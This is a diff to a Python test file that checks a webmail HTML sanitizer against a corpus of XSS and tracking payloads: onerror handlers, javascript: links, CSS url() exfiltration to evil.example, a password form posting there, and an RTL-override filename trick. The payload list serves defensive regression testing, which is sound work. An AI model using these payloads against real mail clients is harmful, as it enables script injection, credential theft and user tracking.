@@ -21,30 +21,55 @@ INERT = r"""
 <![CDATA[<img src=x onerror=alert(1)>]]> <html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script>
 <a href="java&#10;script:alert(1)">a</a> <a href=" &#1; javascript:alert(1)">b</a> <a href="JaVaScRiPt:alert(1)">c</a>
 <a href="data:text/html,<script>alert(1)</script>">d</a> <a href="vbscript:x">e</a> <a href="cid:x">f</a>
-<iframe src="https://evil.example"></iframe> <iframe srcdoc="<script>alert(1)</script>"></iframe> <object data=x></object>
+<iframe src="https://evil.example"></iframe> <iframe srcdoc="<script>alert(1)</script>"></iframe>
+<object data=x></object>
 <embed src=x> <applet code=x></applet> <base href="https://evil.example/"> <meta http-equiv=refresh content="0;url=x">
 <link rel=stylesheet href=https://evil.example/x.css> <link rel=prefetch href=https://evil.example/p>
-<form action=https://evil.example><input name=password autofocus onfocus=alert(1)><button formaction=x>ok</button></form>
-<style>@import "https://evil.example/i.css"; body{background:url(https://evil.example/b)} input[value^=a]{color:red}</style>
-<p style="background:url(https://evil.example/s)">s</p> <p style="background-image:u\72l(https://evil.example/e)">e</p>
+<form action=https://evil.example><input name=password autofocus onfocus=alert(1)><button formaction=x></form>
+<style>@import "https://evil.example/i.css"; input[value^=a]{background:url(https://evil.example/b)}</style>
+<p style="background:url(https://evil.example/s)">s</p>
+<p style="background-image:u\72l(https://evil.example/e)">e</p>
 <p style="width:expression(alert(1))">x</p> <p style="position:fixed;inset:0;z-index:9">over</p>
 <p style="behavior:url(#x);-moz-binding:url(x)">m</p> <div style="list-style:url(https://evil.example/l)">l</div>
 <img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x 2x"> <img src="//evil.example/q.gif">
 <img src="data:image/svg+xml;base64,PHN2Zz4="> <img src="data:text/html,x"> <img src="/events"> <img src="events?x=1">
-<img src="/\evil.example/z"> <img src="http://desk.example/events"> <picture><source srcset=https://evil.example/w></picture>
+<img src="/\evil.example/z"> <img src="http://desk.example/events">
+<picture><source srcset=https://evil.example/w></picture>
 <video src=https://evil.example/v poster=https://evil.example/p autoplay><track src=x></video> <audio src=x></audio>
 <table background="https://evil.example/t"><tr><td background="https://evil.example/td">t</td></tr></table>
 <body background=https://evil.example/body onload=alert(1)> <input type=image src=https://evil.example/in>
-<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript> <template><img src=x onerror=alert(1)></template>
-<p title='data-remote-src='>t</p><a title="src=" href="https://ok.example/">g</a> <div id=timeline name=body>clobber</div>
-<a href="https://evil.example/" target=_top ping=https://evil.example/ping download>h</a> <details ontoggle=alert(1) open>
-<img alt='" src="cid:logo@x" onerror="alert(1)'> <blockquote title="</blockquote><script>alert(1)</script>">q</blockquote>
+<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
+<template><img src=x onerror=alert(1)></template>
+<p title='data-remote-src='>t</p><a title="src=" href="https://ok.example/">g</a>
+<div id=timeline name=body>clobber</div>
+<a href="https://evil.example/" target=_top ping=https://evil.example/ping download>h</a>
+<details ontoggle=alert(1) open>
+<img alt='" src="cid:logo@x" onerror="alert(1)'>
+<blockquote title="</blockquote><script>alert(1)</script>">q</blockquote>
 data-remote-src="https://evil.example/text" src="cid:logo@x"
 """
-_TAGS_GONE = (
-    "script iframe object embed applet base meta link form input button style svg math video audio picture source "
-    "template noscript"
-).split()
+_TAGS_GONE = [
+    "script",
+    "iframe",
+    "object",
+    "embed",
+    "applet",
+    "base",
+    "meta",
+    "link",
+    "form",
+    "input",
+    "button",
+    "style",
+    "svg",
+    "math",
+    "video",
+    "audio",
+    "picture",
+    "source",
+    "template",
+    "noscript",
+]
 
 
 class Look(HTMLParser):
@@ -72,7 +97,9 @@ async def sheet_of(room, house):
     made.get_payload()[1].add_related(b"\x89PNG\r\n\x1a\nrest", "image", "png", cid="<logo@x>", filename="logo.png")
     await room.take(made.as_bytes())
     (message,) = await room.messages("in")
-    html = "".join(safe_html(line)[0] for line in INERT.splitlines())  # one by one: an open style would swallow the rest
+    html = "".join(
+        safe_html(line)[0] for line in INERT.splitlines()
+    )  # one by one: an open style would swallow the rest
     async with room.store.transaction() as uow:
         await uow.session.execute(update(Message).where(col(Message.id) == message.id).values(html=html))
     return await house.person("boss", Role.ADMIN), f"/messages/{message.id}/sheet"
@@ -83,7 +110,9 @@ async def test_a32_cve_2024_42009_nothing_of_a_strangers_page_runs_or_sends(room
     answer = await boss.get(path)
     seen = Look(answer.page)
     assert not set(_TAGS_GONE) & set(seen.tags)
-    assert [name for _, name, _ in seen.found if name.startswith("on") or name in {"id", "ping", "srcset", "action"}] == []
+    assert [
+        name for _, name, _ in seen.found if name.startswith("on") or name in {"id", "ping", "srcset", "action"}
+    ] == []
     assert [one for one in seen.of("href") if not one.startswith(("https://", "http://", "mailto:", "tel:"))] == []
     assert [one for one in seen.of("style") if "url" in one or "expression" in one or "position" in one] == []
     assert {one for one in seen.of("target") if one} == {"_blank"}
@@ -127,7 +156,7 @@ FILES = {
 
 @pytest.mark.parametrize("inline", ["", "?inline=1"])
 async def test_a34_cve_2026_32753_a_file_is_a_download_whatever_it_calls_itself(house, room, inline):
-    boss, path = await sheet_of(room, house)
+    boss, _ = await sheet_of(room, house)
     async with house.store.read() as uow:
         file = await uow.session.scalar(select(Attachment))
     for name, (content, kind) in FILES.items():
@@ -158,5 +187,8 @@ async def test_a34_a_file_name_does_not_read_backwards(room, house):
     made.add_attachment(b"MZ", "application", "octet-stream", filename="invoice\u202efdp.exe")
     await room.take(made.as_bytes())
     async with house.store.read() as uow:
-        names = [*await uow.session.scalars(select(Attachment.filename)), *await uow.session.scalars(select(Message.subject))]
+        names = [
+            *await uow.session.scalars(select(Attachment.filename)),
+            *await uow.session.scalars(select(Message.subject)),
+        ]
     assert not {"\u202e", "\u2066", "\u200f"} & set("".join(names))
